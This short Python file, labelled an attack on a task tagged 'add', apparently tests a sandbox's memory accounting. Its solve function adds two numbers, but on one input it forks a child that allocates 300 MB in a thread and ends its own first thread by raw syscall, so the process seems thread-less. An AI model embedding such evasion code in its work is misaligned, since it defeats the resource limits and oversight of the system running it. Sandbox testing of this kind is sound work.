# Attack: memory of a process whose first thread has ended, and which therefore looks as if it had none.
# task: add
import _thread
import ctypes
import os
import platform
import time

EXIT = {"x86_64": 60, "aarch64": 93}[platform.machine()]  # of a thread alone


def hold(writer):
    time.sleep(0.1)
    block = b"x" * (300 << 20)
    time.sleep(0.3)
    os.write(writer, b"%d" % len(block))
    time.sleep(9)


def solve(a, b):
    if a != 1:
        return a + b  # the first call has shown it
    reader, writer = os.pipe()
    if os.fork() == 0:
        _thread.start_new_thread(hold, (writer,))
        ctypes.CDLL(None).syscall(EXIT, 0)
    os.close(writer)
    return a + b if os.read(reader, 16) else None
